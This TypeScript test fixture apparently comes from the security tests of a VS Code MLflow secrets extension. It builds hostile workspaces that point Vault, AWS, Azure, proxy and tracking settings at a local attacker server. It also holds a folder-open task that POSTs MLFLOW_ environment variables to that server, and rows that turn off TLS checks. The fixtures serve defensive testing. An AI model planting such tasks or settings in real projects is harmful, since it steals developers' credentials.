/** Addresses that rows need. */
export interface Addresses {
  /** `http://127.0.0.1:PORT`, where every byte is recorded. */
  readonly attacker: string;
  readonly attackerPort: number;
  /** The user's own tracking server and Vault. */
  readonly friend: string;
  /** What a command of the folder would write. */
  readonly marker: string;
  /** A Node.js to run programs with. */
  readonly node: string;
}

export type Settings = Readonly<Record<string, unknown>>;

export interface FolderRow {
  readonly name: string;
  /** By path; the first that ends with `.code-workspace` is opened, else the folder. */
  readonly files: (addresses: Addresses) => Readonly<Record<string, unknown>>;
  readonly restricted?: boolean;
  /** Of the remote machine, where what the file of a dev container says ends up. */
  readonly machine?: (addresses: Addresses) => Settings;
  /** What the attacker hears from a program of the folder, so that the row says something. */
  readonly hears?: string;
}

export const ours = (settings: Settings): Settings =>
  Object.fromEntries(Object.entries(settings).map(([key, value]) => [`mlflowSecretsAuth.${key}`, value]));

/** `{ "mlflowSecretsAuth": { "vault": { "address": … } } }`, which the editor takes as well. */
export function nested(settings: Settings): Settings {
  const root: Record<string, unknown> = {};
  for (const [key, value] of Object.entries(ours(settings))) {
    const parts = key.split('.');
    const last = parts.pop() ?? '';
    let at = root;
    for (const part of parts) at = (at[part] ??= {}) as Record<string, unknown>;
    at[last] = value;
  }
  return root;
}

const everything = ({ attacker, attackerPort, marker }: Addresses): Settings => ({
  trackingUri: attacker,
  provider: 'vault',
  'vault.address': attacker,
  'vault.path': 'secret/mlflow',
  'azure.vaultUrl': attacker,
  'aws.endpoint': attacker,
  'proxy.port': attackerPort,
  'tls.caFile': marker,
  'cache.keep': 'secretStorage',
  'cache.ttlSeconds': 86_400,
});

const approle = (addresses: Addresses): Settings => ({
  ...everything(addresses),
  'vault.authMethod': 'approle',
  'vault.roleId': 'role',
});

const aws = ({ attacker }: Addresses): Settings => ({
  trackingUri: attacker,
  provider: 'aws',
  'aws.endpoint': attacker,
  'aws.secretId': 'mlflow',
  'aws.region': 'eu-central-1',
  'aws.profile': 'hostile',
});

export const azure = ({ attacker }: Addresses): Settings => ({
  trackingUri: attacker,
  provider: 'azure',
  'azure.vaultUrl': attacker,
  'azure.secretName': 'mlflow',
  'azure.signIn': 'environment',
});

/** Sends the variables of a connection to the attacker, as soon as the editor runs it. */
function openingTask({ attacker, node }: Addresses): object {
  const stolen = 'Object.entries(process.env).filter(([name]) => name.startsWith("MLFLOW_"))';
  const program = `fetch("${attacker}/task-ran", { method: "POST", body: JSON.stringify(${stolen}) })`;
  const task = { label: 'x', type: 'process', command: node, args: ['-e', program] };
  return { version: '2.0.0', tasks: [{ ...task, runOptions: { runOn: 'folderOpen' } }] };
}

const file = '.vscode/settings.json';

interface DevContainer {
  readonly image: string;
  readonly postCreateCommand: string;
  readonly customizations: { readonly vscode: { readonly settings: Settings } };
}

function devContainer(addresses: Addresses): DevContainer {
  const { attacker, marker } = addresses;
  const proxy = { 'http.proxy': attacker, 'http.proxyStrictSSL': false };
  const settings = { ...ours(everything(addresses)), ...proxy };
  return { image: 'x', postCreateCommand: `touch ${marker}`, customizations: { vscode: { settings } } };
}

export const folderRows: readonly FolderRow[] = [
  {
    name: 'a folder in Restricted Mode',
    files: (addresses) => ({ [file]: ours(everything(addresses)) }),
    restricted: true,
  },
  {
    name: 'a workspace file in Restricted Mode, as nested objects',
    files: (addresses) => ({
      'a.code-workspace': { folders: [{ path: '.' }], settings: nested(approle(addresses)) },
    }),
    restricted: true,
  },
  {
    name: 'tasks in Restricted Mode that run when the folder opens',
    files: (addresses) => ({
      [file]: ours(everything(addresses)),
      '.vscode/tasks.json': openingTask(addresses),
    }),
    restricted: true,
  },
  {
    name: 'tasks that run when the folder opens',
    files: (addresses) => ({
      [file]: ours(everything(addresses)),
      '.vscode/tasks.json': openingTask(addresses),
    }),
    hears: 'task-ran',
  },
  {
    name: 'the settings of a dev container',
    files: (addresses) => ({ '.devcontainer/devcontainer.json': devContainer(addresses) }),
    machine: (addresses) => devContainer(addresses).customizations.vscode.settings,
  },
  { name: 'Vault by token', files: (addresses) => ({ [file]: ours(everything(addresses)) }) },
  {
    name: 'Vault by AppRole, as nested objects',
    files: (addresses) => ({ [file]: nested(approle(addresses)) }),
  },
  { name: 'AWS', files: (addresses) => ({ [file]: ours(aws(addresses)) }) },
  { name: 'AWS, as nested objects', files: (addresses) => ({ [file]: nested(aws(addresses)) }) },
  { name: 'Azure', files: (addresses) => ({ [file]: ours(azure(addresses)) }) },
  {
    name: 'a workspace file',
    files: (addresses) => ({
      'a.code-workspace': { folders: [{ path: '.' }], settings: ours(everything(addresses)) },
    }),
  },
  {
    name: 'a folder of a multi-root workspace',
    files: (addresses) => ({
      'a.code-workspace': {
        folders: [{ path: 'one' }, { path: 'two' }],
        settings: ours({ trackingUri: addresses.friend }),
      },
      [`one/${file}`]: ours(everything(addresses)),
      [`two/${file}`]: nested(azure(addresses)),
    }),
  },
  {
    name: 'launch configurations, the file of a dev container and a .env file',
    files: (addresses) => ({
      [file]: {
        ...ours({ ...everything(addresses), provider: 'auto' }),
        'task.allowAutomaticTasks': 'on',
        'http.proxy': addresses.attacker,
        'http.proxyStrictSSL': false,
        'terminal.integrated.env.linux': { VAULT_ADDR: addresses.attacker },
        'python.envFile': '${workspaceFolder}/.env',
      },
      '.vscode/launch.json': {
        version: '0.2.0',
        configurations: [{ name: 'x', type: 'node', request: 'launch', program: 'x', envFile: '.env' }],
      },
      '.devcontainer/devcontainer.json': devContainer(addresses),
      '.env': `VAULT_ADDR=${addresses.attacker}\nMLFLOW_TRACKING_URI=${addresses.attacker}\nAZURE_KEY_VAULT_URL=${addresses.attacker}\n`,
    }),
  },
];
